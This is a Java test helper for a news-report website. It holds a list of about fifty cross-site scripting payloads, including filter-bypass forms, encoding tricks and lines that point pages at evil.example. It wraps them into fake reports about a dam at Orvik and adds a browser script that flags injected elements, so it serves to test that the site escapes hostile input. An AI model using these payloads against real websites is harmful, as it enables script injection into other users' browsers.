package firsthand.web;

import firsthand.report.Report;
import firsthand.report.StatedTime;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;

/// Reports that try to run something in the reader's browser. The payloads are our own, one for
/// each
/// class that sanitizers are tested with: elements, handlers, addresses, broken markup, comments,
/// raw text, foreign content, encodings, templates.
final class Hostile {
    static final List<String> PAYLOADS =
            List.of(
                    "<script>hacked=1</script>",
                    "</title><script>hacked=1</script>",
                    "</textarea><script>hacked=1</script>",
                    "</script><script>hacked=1</script>",
                    "</style><script>hacked=1</script>",
                    "\"><script>hacked=1</script>",
                    "'><script>hacked=1</script>",
                    "\" onmouseover=\"hacked=1\" x=\"",
                    "' autofocus onfocus='hacked=1' x='",
                    "` onerror=`hacked=1",
                    "<img src=x onerror=hacked=1>",
                    "<img/src/onerror=hacked=1>",
                    "<svg onload=hacked=1>",
                    "<svg><script>hacked=1</script></svg>",
                    "<svg><a xlink:href=\"javascript:hacked=1\"><text>x</text></a></svg>",
                    "<math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>",
                    "<body onload=hacked=1>",
                    "<iframe srcdoc=\"<script>parent.hacked=1</script>\"></iframe>",
                    "<iframe src=javascript:parent.hacked=1></iframe>",
                    "<object data=\"javascript:hacked=1\">",
                    "<embed src=\"data:text/html,<script>parent.hacked=1</script>\">",
                    "<base href=\"https://evil.example/\">",
                    "<link rel=stylesheet href=https://evil.example/x.css>",
                    "<meta http-equiv=refresh content=\"0;url=javascript:hacked=1\">",
                    "<form action=https://evil.example><button autofocus>Go</button></form>",
                    "<input autofocus onfocus=hacked=1>",
                    "<details open ontoggle=hacked=1>",
                    "<video><source onerror=hacked=1></video>",
                    "<marquee onstart=hacked=1>",
                    "<template><script>hacked=1</script></template>",
                    "<noscript><p title=\"</noscript><img src=x onerror=hacked=1>\">",
                    "<!--><script>hacked=1</script-->",
                    "<![CDATA[><script>hacked=1</script>]]>",
                    "<?xml-stylesheet href=\"javascript:hacked=1\"?>",
                    "<scr<script>ipt>hacked=1</scr</script>ipt>",
                    "<ScRiPt\u0000>hacked=1</sCrIpT>",
                    "\u003cscript\u003ehacked=1\u003c/script\u003e",
                    "&lt;script&gt;hacked=1&lt;/script&gt;",
                    "&#60;script&#62;hacked=1&#60;/script&#62;",
                    "+ADw-script+AD4-hacked=1+ADw-/script+AD4-",
                    "javascript:hacked=1",
                    "data:text/html,<script>hacked=1</script>",
                    "vbscript:hacked=1",
                    "${hacked=1} #{hacked=1} {{hacked=1}} @{hacked=1} <%= hacked=1 %>",
                    "@script hacked=1 @endscript",
                    "hx-on::load=\"hacked=1\" <div hx-get=https://evil.example hx-trigger=load>",
                    "<div data-hx-on:load=\"hacked=1\" hx-on:htmx:load=\"hacked=1\">",
                    "\u202e<script>hacked=1</script>\u202c",
                    "<a href=\"java\tscript:hacked=1\">x</a>",
                    "]]>\"'><svg/onload=hacked=1>",
                    "\\u003cimg src=x onerror=hacked=1\\u003e",
                    "%3Cscript%3Ehacked=1%3C/script%3E");

    /// Names what on a page is not the desk's own: scripts without a source, handlers, addresses
    /// that run something, elements that the templates never write.
    static final String FOREIGN =
            """
            (() => {
              const bad = [];
              for (const e of document.querySelectorAll('*')) {
                const name = e.localName;
                if (name === 'script' && !new URL(e.src || 'x:', location).pathname.startsWith('/static/')) bad.push(e.outerHTML);
                if (['iframe', 'object', 'embed', 'base', 'video', 'img', 'math', 'template', 'marquee', 'style'].includes(name)) bad.push(e.outerHTML);
                for (const a of e.attributes) {
                  if (a.name.startsWith('on') || a.name.includes('hx-on')) bad.push(e.outerHTML);
                  if (['href', 'src', 'action', 'hx-get', 'formaction'].includes(a.name) && !/^(\\/|#|https?:)/.test(a.value.trim())) bad.push(e.outerHTML);
                  if (['hx-get', 'src', 'action'].includes(a.name) && !a.value.startsWith('/')) bad.push(e.outerHTML);
                }
              }
              return bad.slice(0, 3).join(' ');
            })()
            """;

    private static final int TOGETHER = 4;

    private Hostile() {}

    /// Every payload in every field, in enough like reports that they make a story with quotes,
    /// figures, descents and claims.
    static List<Report> reports() {
        List<Report> reports = new ArrayList<>();
        for (int n = 0; n < PAYLOADS.size(); n += TOGETHER) {
            int end = Math.min(n + TOGETHER, PAYLOADS.size());
            String payloads = String.join(" ", PAYLOADS.subList(n, end));
            reports.add(report("h" + n + PAYLOADS.get(n), payloads, n));
        }
        return reports;
    }

    private static Report report(String id, String p, int n) {
        String text =
                "Mayor Ida Holm "
                        + p
                        + " said the dam at Orvik held on Monday.\n\n"
                        + "\"We counted 48 "
                        + p
                        + " homes under water and nobody is missing,\" said"
                        + " Ida Holm, the mayor of Orvik.\n\n"
                        + "The operator "
                        + p
                        + " denied that 48 homes were under water. It promised"
                        + " to pay 3 million crowns by 1 May 2026.\n\n"
                        + (n % 2 == 0 ? "Rescuers" : "Crews")
                        + " took 120 people from the lower town, the county said.";
        return new Report(
                id,
                Optional.of("Outlet " + p),
                Optional.of(n % 3 == 0 ? "javascript:hacked=1" : "https://news.example/" + p),
                Optional.of("Dam at Orvik holds " + p),
                Optional.of("By " + p),
                StatedTime.parse("2026-03-0" + (1 + n % 9) + "T10:00:00Z"),
                "en",
                text.replace("\u0000", "\u0001"),
                List.of(),
                List.of(new firsthand.report.Notice("odd", Optional.empty(), "Odd: " + p)));
    }

    static Report arabic() {
        return new Report(
                "ar1",
                Optional.of("صحيفة الميناء"),
                Optional.empty(),
                Optional.of("انهيار سد في أورفيك"),
                Optional.empty(),
                StatedTime.parse("2026-03-02T10:00:00Z"),
                "ar",
                "قالت رئيسة البلدية إيدا هولم يوم الاثنين إن السد صمد.\n\nونقلت الفرق 120 شخصا من"
                        + " المدينة السفلى.",
                List.of(),
                List.of());
    }

    /// The pages that show something of the reports: all lists, every view of the largest stories,
    /// some of their reports and comparisons, the answers to searches and errors.
    static List<String> paths(OpenDesk desk) throws Exception {
        List<String> paths = new ArrayList<>(List.of("/", "/outlets", "/corrections", "/sources"));
        var stories = OpenDesk.json(desk.get("/stories.json")).path("stories");
        int n = 0;
        for (var s : stories) {
            if (n++ == 2) break;
            String story = s.path("page").asText();
            for (String view :
                    new String[] {
                        "",
                        "/stemma",
                        "/quotes",
                        "/figures",
                        "/claims",
                        "/positions",
                        "/commitments",
                        "/timeline",
                        "/reports",
                        "/print"
                    }) {
                paths.add(story + view);
            }
            linked(desk, story + "/reports", ".report-lines a", 8, paths);
            linked(desk, story + "/stemma", "a.edge", 3, paths);
            linked(desk, story + "/quotes", "a.put-link", 2, paths);
        }
        linked(desk, "/outlets", "th a", 6, paths);
        for (String p : PAYLOADS.subList(0, 12)) {
            paths.add(
                    "/stories?q="
                            + java.net.URLEncoder.encode(
                                    p, java.nio.charset.StandardCharsets.UTF_8));
            paths.add(
                    "/compare?a="
                            + java.net.URLEncoder.encode(p, java.nio.charset.StandardCharsets.UTF_8)
                            + "&b=x");
            paths.add("/reports/" + Addresses.part(p));
        }
        return paths;
    }

    private static void linked(
            OpenDesk desk, String page, String links, int most, List<String> paths)
            throws Exception {
        int n = 0;
        for (Element a : Jsoup.parse(desk.get(page).body()).select(links)) {
            if (n++ < most) paths.add(a.attr("href"));
        }
    }
}
